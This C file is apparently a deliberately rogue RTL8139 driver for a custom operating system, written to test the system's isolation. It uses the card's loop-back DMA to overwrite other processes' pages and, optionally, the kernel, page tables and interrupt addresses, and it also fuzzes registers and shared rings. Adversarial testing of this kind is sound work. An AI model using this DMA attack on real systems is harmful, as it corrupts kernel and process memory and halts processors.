/* A malicious driver of an RTL8139: it holds the device's registers, interrupt and memory as a good one does, and uses the
 * device in its loop-back mode as a machine that copies physical memory from anywhere to anywhere.
 *
 * Each round it searches physical memory for the keeper's pages and overwrites what it finds; with argument `everywhere` it
 * then writes to random addresses, to the kernel, and to where tables and programs stand, puts its descriptor rings at random
 * places, sends interrupts of all kinds (argument `interrupts`), writes random values to all registers; and always it fills the rings that it shares with the bus with
 * random words and floods the bus with signals.
 *
 * Arguments: `interrupts`, how many times a round it sends some to every processor (default 0); `top`, end of the memory to search; `bytes`, how much below it (default 64M); `everywhere` (default 0);
 * `writes`, `registers`, `signals`, how many a round (default 2000 each); `rounds` (default 1), after which it ends; `seed`. */
#include "keeper.h"

#include "ashlar/driver.h"
#include "ashlar/env.h"
#include "ashlar/print.h"
#include "ashlar/random.h"
#include "ashlar/string.h"
#include "ashlar/syscall.h"
#include "pci_protocol.h"

/* After what it needs. */
#include "../drivers/rtl8139/registers.h"

#define MEMORY 0x0000100000000000ul
#define TCR_LOOPBACK 0x00060000u
#define RX_RING 1024u /* in the first page; the ring for sending stands at its beginning */
#define LEAST_FRAME 64u
#define MOST_FRAME 1500u
#define RX_SPACE 2048u
#define POLLS 10000u
#define RING_CAPACITY 64u
#define INTERRUPT_ADDRESS 0xfee00000ul
#define KERNEL_FIRST 0x200000ul /* where its image stands */
#define KERNEL_BYTES 0xe00000ul

enum { RINGS, SOURCE, TARGET, NUM_PAGE };

static uint64_t physical[NUM_PAGE];
static struct random state;
static uint32_t bus; /* notification */

static volatile void *page(uint32_t which)
{
    return (volatile void *)(MEMORY + which * PAGE_SIZE);
}

static uint64_t below(uint64_t limit)
{
    return (random_next(&state) >> 8) % limit;
}

static void get_memory(void)
{
    uint32_t slot = env_slot_of_kind("dma");
    uint32_t status = sys_mem_map(MEMORY, NUM_PAGE, PROT_READ | PROT_WRITE);

    for (uint32_t i = 0; i < NUM_PAGE && status == STATUS_OK; i++) {
        status = sys_dma_address(slot, MEMORY + i * PAGE_SIZE, DMA_PHYSICAL, &physical[i]);
    }
    for (uint64_t i = 0; status == STATUS_OK; i++) {
        status = sys_device_map(env_slot_of_kind("device"), REGISTERS_ADDRESS + i * PAGE_SIZE, i);
    }
    if (status != ERR_BAD_ARGUMENT) { /* beyond the last page of the registers */
        panic("memory or registers: error %u\n", status);
    }
}

/* The device as it is after a reset, with these rings, sending to itself. */
static void set_up(uint64_t rings)
{
    register_write8(CR, CR_RST);
    for (uint32_t i = 0; i < POLLS && (register_read8(CR) & CR_RST) != 0; i++) {
    }
    register_write16(CPCR, CPCR_TX | CPCR_RX);
    register_write16(IMR, 0);
    register_write32(TNPDS, (uint32_t)rings);
    register_write32(TNPDS + 4, (uint32_t)(rings >> 32));
    register_write32(RDSAR, (uint32_t)(rings + RX_RING));
    register_write32(RDSAR + 4, (uint32_t)(rings >> 32));
    register_write8(CR, CR_RE | CR_TE);
    register_write32(TCR, TCR_BURST | TCR_GAP | TCR_LOOPBACK);
    register_write32(RCR, RCR_ALL | RCR_OWN | RCR_MULTICAST | RCR_BROADCAST | RCR_BURST | RCR_FIFO);
}

/* Lets the device copy physical memory. Returns whether it says so. */
static int copy(uint64_t from, uint64_t to, uint32_t bytes)
{
    volatile struct descriptor *send = page(RINGS);
    volatile struct descriptor *receive = (volatile struct descriptor *)((volatile uint8_t *)page(RINGS) + RX_RING);

    receive->tag = 0;
    receive->low = (uint32_t)to;
    receive->high = (uint32_t)(to >> 32);
    receive->flags = DESC_OWN | DESC_END | RX_SPACE;
    send->tag = 0;
    send->low = (uint32_t)from;
    send->high = (uint32_t)(from >> 32);
    send->flags = DESC_OWN | DESC_END | DESC_FIRST | DESC_LAST | bytes;
    dma_barrier();
    register_write8(TPPOLL, TPPOLL_NORMAL);
    for (uint32_t i = 0; i < POLLS && (send->flags & DESC_OWN) != 0; i++) {
    }
    return (send->flags & DESC_OWN) == 0 && (receive->flags & DESC_OWN) == 0;
}

/* Whether the device copies this process's own memory: without it the attack would prove nothing. */
static int works(void)
{
    volatile uint64_t *source = page(SOURCE);
    volatile uint64_t *target = page(TARGET);

    for (uint32_t i = 0; i < PAGE_SIZE / 8; i++) {
        source[i] = random_next(&state);
        target[i] = 0;
    }
    if (!copy(physical[SOURCE], physical[TARGET], LEAST_FRAME)) {
        return 0;
    }
    for (uint32_t i = 0; i < LEAST_FRAME / 8; i++) {
        if (target[i] != source[i]) {
            return 0;
        }
    }
    return 1;
}

static uint32_t search(void)
{
    volatile uint64_t *target = page(TARGET);
    uint64_t top = env_arg_u64("top", 0);
    uint32_t found = 0;

    for (uint64_t at = top - env_arg_u64("bytes", 64ul << 20); at < top; at += PAGE_SIZE) {
        target[0] = 0;
        if (copy(at, physical[TARGET], LEAST_FRAME) && target[0] == KEEPER_MARK) {
            found++;
            copy(physical[SOURCE], at + 64, MOST_FRAME);
        }
    }
    return found;
}

static void write_everywhere(uint64_t writes)
{
    for (uint64_t i = 0; i < writes; i++) {
        uint32_t bytes = LEAST_FRAME + (uint32_t)below(MOST_FRAME - LEAST_FRAME);
        uint64_t at = below(1ul << 32);
        if (i % 4 == 1) {
            at = KERNEL_FIRST + below(KERNEL_BYTES);
        } else if (i % 4 == 2) {
            at = env_arg_u64("top", 0) - 1 - below(64ul << 20); /* tables and programs */
        } else if (i % 64 == 3) {
            at = random_next(&state);
        }
        copy(physical[SOURCE], at, bytes);
    }
    for (uint64_t i = 0; i < writes / 16; i++) {
        set_up(below(1ul << 32) & ~0xfffful);
        register_write8(TPPOLL, TPPOLL_NORMAL);
    }
}

/* Each word of a frame that arrives there is an interrupt: vector, and in bits 8 to 10 fixed, system management, NMI, INIT ... */
static void send_interrupts(uint64_t times)
{
    volatile uint32_t *source = page(SOURCE);

    for (uint64_t i = 0; i < times; i++) {
        for (uint32_t word = 0; word < LEAST_FRAME / 4; word++) {
            source[word] = (uint32_t)below(0x10000) | 0x4000;
        }
        source[0] = 0x4500; /* INIT: stops a processor */
        source[1] = 0x403b; /* the kernel's own "stop" */
        copy(physical[SOURCE], INTERRUPT_ADDRESS + (i % 17 << 12), LEAST_FRAME);
    }
}

static void write_registers(uint64_t writes)
{
    for (uint64_t i = 0; i < writes; i++) {
        uint32_t offset = (uint32_t)below(256);
        uint32_t value = (uint32_t)random_next(&state);
        if (i % 3 == 0) {
            register_write8(offset, (uint8_t)value);
        } else if (i % 3 == 1) {
            register_write16(offset & ~1u, (uint16_t)value);
        } else {
            register_write32(offset & ~3u, value);
        }
        (void)register_read32(offset & ~3u);
    }
}

/* The rings stand before the data pages of the link. */
static void flood(uint8_t *data, uint64_t signals)
{
    uint64_t bytes = link_ring_pages(RING_CAPACITY) * PAGE_SIZE;
    volatile uint64_t *rings = (volatile uint64_t *)(data - bytes);

    for (uint64_t i = 0; i < signals; i++) {
        rings[below(bytes / 8)] = i % 2 == 0 ? random_next(&state) : below(256);
        sys_signal(bus);
    }
}

int main(void)
{
    struct mail_set probe = {{0}};
    uint64_t bytes = 0;
    uint64_t everywhere = env_arg_u64("everywhere", 0);
    char client[32] = "notification.";

    state.state = env_arg_u64("seed", 1);
    env_arg("pci", client + strlen(client), sizeof client - strlen(client));
    bus = env_slot(client);
    domain_start();
    domain_serve(&pci_protocol);
    probe.mask[PCI_NUMBER] = ~0ul; /* the first message says that the link is there */
    domain_await(&probe, DEADLINE_NEVER);
    uint8_t *data = domain_data(PCI_NUMBER, &bytes);
    get_memory();
    set_up(physical[RINGS]);
    print("ROGUE its own memory is %s\n", works() ? "copied" : "NOT copied");
    for (uint64_t round = 1; round <= env_arg_u64("rounds", 1); round++) {
        set_up(physical[RINGS]);
        print("ROGUE %u pages of others found\n", search());
        if (everywhere != 0) {
            write_everywhere(env_arg_u64("writes", 2000));
            set_up(physical[RINGS]);
            send_interrupts(env_arg_u64("interrupts", 0));
            write_registers(env_arg_u64("registers", 2000));
        }
        flood(data, env_arg_u64("signals", 2000));
        set_up(physical[RINGS]);
        print("ROGUE round %lu: its own memory is %s\n", round, works() ? "copied" : "NOT copied");
    }
    return 0;
}
